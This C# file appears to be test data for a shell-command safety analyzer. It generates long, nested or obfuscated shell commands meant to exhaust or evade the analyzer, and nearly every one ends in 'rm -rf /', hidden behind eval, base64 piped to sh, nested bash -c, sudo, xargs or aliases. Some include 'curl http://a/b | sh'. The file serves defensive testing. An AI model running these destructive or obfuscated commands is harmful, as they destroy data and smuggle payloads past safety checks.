using System.Globalization;
using System.Text;

namespace SigmaShake.Rules.Tests.Analysis.Hostile;

/// <summary>
/// Commands that are made to cost more than they are long: by their length, by what they unfold to, or by what is asked of each of their parts. Each removes
/// everything at its end, where whoever gives up early would not see it.
/// </summary>
internal static class HostileCommands
{
    private const string Danger = "rm -rf /";

    /// <summary>Each command by its name; made for a size, of which 1,000 is the whole.</summary>
    public static readonly Dictionary<string, Func<int, string>> All = new(StringComparer.Ordinal)
    {
        // Long, and deep.
        ["statements"] = size => Times("a;", 500 * size) + Danger,
        ["harmless words"] = size => "echo" + Times(" a", 500 * size) + "; " + Danger,
        ["nested double quotes"] = size => Times("\"$(echo ", 100 * size) + Danger + Times(")\"", 100 * size),
        ["nested single quotes"] = size => "echo " + Times("'\"'\"'\"", 100 * size) + "; " + Danger,
        ["quoted words"] = size => "echo " + Times("\"a\"'b'", 100 * size) + "; " + Danger,
        ["nested substitutions"] = size => Times("$(", 100 * size) + Danger + Times(")", 100 * size),
        ["echoed substitutions"] = size => Times("$(echo ", size) + Danger + Times(")", size),
        ["substitutions up to the limit, of a long text"] = size => Times("echo $(", 50) + "echo " + new string('a', 1000 * size) + ";" + Danger + Times(")", 50),
        ["backticks"] = size => Times("`a`;", 100 * size) + Danger,
        ["pipes"] = size => Times("a | ", 10 * size) + Danger,
        ["pipes of a long text"] = size => "echo " + new string('a', 100 * size) + " | " + Times("cat | ", 8 * size) + Danger,
        ["alternatives"] = size => Names(400) + Times("a||b;", 100 * size) + Danger,
        ["here-documents"] = size => Times("cat <<E\na\nE\n", 100 * size) + Danger,
        ["scripts in here-documents"] = size => Times("sh <<E\na\nE\n", 50 * size) + Danger,
        ["here-documents of one line"] = size => "cat" + Times(" <<E", 100 * size) + "\n" + Times("E\n", 100 * size) + Danger,
        ["subshells"] = size => Times("(a);", 100 * size) + Danger,
        ["subshells in each other"] = size => Times("(", 100 * size) + Danger + Times(")", 100 * size),
        ["process substitutions"] = size => "cat" + Times(" <(a)", 50 * size) + "; " + Danger,
        ["a word"] = size => new string('a', 1000 * size) + "; " + Danger,
        ["a path"] = size => "cat /" + Times("a/", 500 * size) + "; " + Danger,
        ["paths of many folders"] = size => "cat" + Times(" /" + Times("a/", 1000) + "b", size / 2) + "; " + Danger,
        ["a word of brackets"] = size => "echo " + Times("[", 500 * size) + "; " + Danger,
        ["a word of braces"] = size => "echo " + Times("{", 500 * size) + "; " + Danger,
        ["a comment"] = size => "#" + new string('a', 1000 * size) + "\n" + Danger,
        ["options"] = size => "grep" + Times(" -e a", 50 * size) + "; " + Danger,
        ["addresses"] = size => "wget" + Times(" http://a/b", 100 * size) + "; " + Danger,
        ["folders to move to"] = size => "mv" + Times(" -t d", 20 * size) + Times(" a", 20 * size) + "; " + Danger,
        ["copies"] = size => "cp" + Times(" a", 50 * size) + " d/; " + Danger,

        // What unfolds.
        ["a doubled variable"] = size => "x=aaaaaaaa;" + Times("x=$x$x;", 100 * size) + Danger,
        ["a tower of variables"] = size => "a0=rm;" + Counted(size / 2, i => $"a{i + 1}=$a{i}$a{i};") + Danger,
        ["a doubled output"] = size => "x=aaaaaaaa;" + Times("x=$(echo $x$x);", 20 * size) + Danger,
        ["a value that grows"] = size => Times("x+=a;", 100 * size) + Danger,
        ["a long value said often"] = size => $"x={new string('a', 200 * size)};" + Times("cat $x\n", 50 * size) + Danger,
        ["a value of many words said often"] = size => $"x='{Times("a ", 100 * size)}';" + Times("git $x\n", 50 * size) + Danger,
        ["a value of many words that is split"] = size => $"x='{Times("a ", 100 * size)}';" + Times("y=$x\n: $x\n", 50 * size) + Danger,
        ["a doubled array"] = size => "a=(b c);" + Times("a=(\"${a[@]}\" \"${a[@]}\");", 5 * size) + Danger,
        ["doubled arguments"] = size => "set -- a b;" + Times("set -- \"$@\" \"$@\";", 5 * size) + Danger,
        ["shifted arguments"] = size => "set --" + Times(" a", 100 * size) + "\n" + Times("shift\n", 50 * size) + Danger,
        ["an array of many"] = size => "a=(" + Times("b ", 100 * size) + "); echo ${a[@]}; " + Danger,
        ["elements one by one"] = size => Times("a[9]=b;", 50 * size) + Danger,
        ["elements by number"] = size => Counted(50 * size, i => $"a[{i % 1000}]=b;") + Danger,
        ["elements by name"] = size => Times("a[k]=b;", 50 * size) + Danger,
        ["elements that are added"] = size => Times("a+=(b);", 50 * size) + Danger,
        ["braces"] = size => "echo " + Times("{a,b}", 10 * size) + "; " + Danger,
        ["braces and many parts"] = size => "echo " + Times("a\"b\"", 50 * size) + Times("{a,b}", 20) + "; " + Danger,
        ["nested braces"] = size => "echo " + Times("{a,", 50 * size) + Times("}", 50 * size) + "; " + Danger,
        ["brace sequences"] = size => "echo" + Times(" {1..1000}", 10 * size) + "; " + Danger,
        ["a padded sequence"] = size => "echo {" + new string('0', 500 * size) + "1..1000}; " + Danger,
        ["a sequence with a large step"] = size => Times("echo {1..9223372036854775807..9223372036854775807};", size / 10) + Danger,
        ["a file that grows"] = size => Times("echo aaaaaaaa >> f;", 5 * size) + Danger,
        ["a doubled file"] = size => "echo aaaaaaaa > f;" + Times("cat f >> f;", 5 * size) + Danger,
        ["many files"] = size => Counted(2 * size, i => $"echo a > f{i};") + Danger,
        ["many variables"] = size => Counted(100 * size, i => $"a{i}=b;") + Danger,
        ["few variables set often"] = size => Names(500) + Times("n1=b;", 100 * size) + Danger,
        ["values in both ways"] = size => Names(16) + Times("if a; then n1=1; else n1=2; fi; echo $n1;", 10 * size) + Danger,
        ["loops over choices"] = size => Times("for a in 1 2 3 4 5 6 7 8; do echo $a; done;", 10 * size) + Danger,
        ["loops in each other"] = size => Counted(size / 25, i => $"for a{i} in 1 2 3; do ") + "echo $a0; x=$x$a1;" + Times("done;", size / 25) + Danger,

        // What calls what.
        ["functions that call two"] = size => Counted(size / 20, i => $"f{i}() {{ f{i + 1}; f{i + 1}; }};") + $"f{size / 20}() {{ a; }}; f0; " + Danger,
        ["functions that call one"] = size => Counted(size / 20, i => $"f{i}() {{ f{i + 1}; }};") + $"f{size / 20}() {{ {Danger}; }}; f0",
        ["a function called often"] = size => "f() { a; b; c; };" + Times("f;", 100 * size) + Danger,
        ["a function with many words"] = size => "f() { g \"$@\" \"$@\"; }; g() { h \"$@\" \"$@\"; }; f" + Times(" a", 100 * size) + "; " + Danger,
        ["aliases in a row"] = size => Counted(size / 20, i => $"alias a{i}=a{i + 1};") + $"alias a{size / 20}='{Danger}'; a0",
        ["aliases of quotes"] = size => Counted(40, i => $"alias a{i}='a{i + 1} \"'\"'\"'\"';") + $"alias a40='echo'; a0 \"{new string('\'', size / 10)}\"; " + Danger,
        ["evaluations"] = size => Times("eval ", 5 * size) + Danger,
        ["quoted evaluations"] = size => Nested(Danger, size / 100, inner => $"eval {Quoted(inner)}"),
        ["shells in each other"] = size => Nested(Danger, size / 100, inner => $"bash -c {Quoted(inner)}"),
        ["base64 of base64"] = size => Nested(Danger, size / 50, inner => $"echo {Convert.ToBase64String(Encoding.UTF8.GetBytes(inner))} | base64 -d | sh"),
        ["base64 again and again"] = size => Nested(Danger, size / 50, inner => Convert.ToBase64String(Encoding.UTF8.GetBytes(inner)), "echo ", Times(" | base64 -d", size / 50) + " | sh"),
        ["wrappers"] = size => Times("sudo ", 50 * size) + Danger,
        ["wrappers in each statement"] = size => Times("sudo a;", 50 * size) + Danger,
        ["environments"] = size => Times("env a=b ", 50 * size) + Danger,
        ["xargs"] = size => "echo /" + Times(" | xargs echo", 10 * size) + " | xargs rm -rf",
        ["xargs of many words"] = size => "echo" + Times(" a", 10 * size) + " / | xargs rm -rf",
        ["xargs in each other"] = size => Times("xargs ", 50 * size) + Danger,
        ["parallel"] = size => "parallel " + Quoted(Danger + " {}") + " :::" + Times(" a", 10 * size) + "; " + Danger,
        ["actions of find"] = size => "find ." + Times(" -exec a {} \\;", 20 * size) + " -exec " + Danger + " \\;",
        ["find in each other"] = size => Times("find . -exec ", 20 * size) + Danger + Times(" \\;", 20 * size),
        ["arms"] = size => "case x in " + Counted(50 * size, i => $"a{i}) b;; ") + $"x) {Danger};; esac",
        ["arms that are taken"] = size => Names(300) + "case $x in " + Counted(50 * size, i => $"a{i}) b;; ") + $"x) {Danger};; esac",
        ["arms of a long pattern"] = size => $"x={new string('a', 4000)};p={Times("*a", 2000)}b; case $x in " + Times("$p) b;; ", 20 * size) + $"*) {Danger};; esac",
        ["branches"] = size => "if a; then b; " + Times("elif a; then b; ", 40 * size) + "fi; " + Danger,
        ["conditions"] = size => Times("[[ a == b ]];", 50 * size) + Danger,

        // What is asked of each part.
        ["patterns"] = size => "cat" + Times(" *a*b*", 10 * size) + "; " + Danger,
        ["a pattern of many stars"] = size => "cat " + Times("*a", 100 * size) + "; " + Danger,
        ["patterns of many stars"] = size => Times($"cat {Times("*a", 500)};", size / 2) + Danger,
        ["prefixes"] = size => $"x={new string('a', 500)};" + Times("y=${x#*a*a*a*b};", 20 * size) + Danger,
        ["suffixes"] = size => $"x={new string('a', 500)};" + Times("y=${x%b*a*a*a};", 20 * size) + Danger,
        ["replacements"] = size => $"x={new string('a', 500)};" + Times("y=${x//*a*a*b/c};", 20 * size) + Danger,
        ["a long replacement"] = size => $"x={new string('a', 200 * size)};y=${{x//a/bb}};" + Danger,
        ["arithmetic"] = size => $"x={Times("1+", 2000)}1;" + Times("y=$(($x));", 50 * size) + Danger,
        ["powers"] = size => Times("y=$((" + Times("2**", 500) + "1));", size / 2) + Danger,
        ["parentheses in arithmetic"] = size => "y=$((" + Times("(", 100 * size) + "1" + Times(")", 100 * size) + ")); " + Danger,
        ["a format without output"] = size => $"x=$(printf '%.0s{Times("\\ud800", 50 * size)}'{Times(" a", 50 * size)});" + Danger,
        ["formats"] = size => "x=$(printf '" + Times("%1000d", 100 * size) + "');" + Danger,
        ["sets of letters"] = size => $"x={Times("a-z", 100 * size)};" + Times("y=$(echo a | tr $x $x);", 5 * size) + Danger,
        ["lines that are read"] = size => $"x='{Times("a\n", 100 * size)}';" + Times("read y <<< \"$x\";", 5 * size) + Danger,
        ["arrays of lines"] = size => $"x='{Times("a\n", 100 * size)}';" + Times("mapfile y <<< \"$x\";", 5 * size) + Danger,
        ["python"] = size => $"python3 -c '{Times("f(a);", 200 * size)}'; " + Danger,
        ["python that writes"] = size => $"python3 -c '{Times("open(\"a\",\"w\");", 60 * size)}'; " + Danger,
        ["python in python"] = size => $"python3 -c {Quoted(Times("exec(\"", 100 * size))}; " + Danger,
        ["PowerShell"] = size => $"pwsh -c '{Times("ri a;", 200 * size)}'; " + Danger,
        ["cmd"] = size => $"cmd /c '{Times("del a&", 150 * size)}'; " + Danger,
        ["awk"] = size => $"awk '{Times("{print > \"a\"}", 50 * size)}'; " + Danger,
        ["sed"] = size => $"sed '{Times("w a\n", 200 * size)}' f; " + Danger,
        ["remote code"] = size => Times("curl http://a/b | sh;", 10 * size) + Danger,
        ["effects elsewhere"] = size => "ssh h" + Times(" rm -rf /a \\;", 20 * size) + "; " + Danger,
        ["directories"] = size => Times("cd a;", 100 * size) + Danger,
        ["redirections"] = size => "a" + Times(" > b", 100 * size) + "; " + Danger,
    };

    private static string Times(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();

    private static string Counted(int count, Func<int, string> text)
    {
        var all = new StringBuilder();
        for (var i = 0; i < count; i++) all.Append(text(i));
        return all.ToString();
    }

    private static string Names(int count) => Counted(count, i => string.Create(CultureInfo.InvariantCulture, $"n{i}=a;"));

    private static string Nested(string text, int depth, Func<string, string> wrap, string before = "", string behind = "")
    {
        // Quotes in quotes, and base64 in base64, grow at each level.
        for (var i = 0; i < depth && text.Length < 1 << 20; i++) text = wrap(text);
        return before + text + behind;
    }

    private static string Quoted(string text) => $"'{text.Replace("'", "'\\''", StringComparison.Ordinal)}'";
}
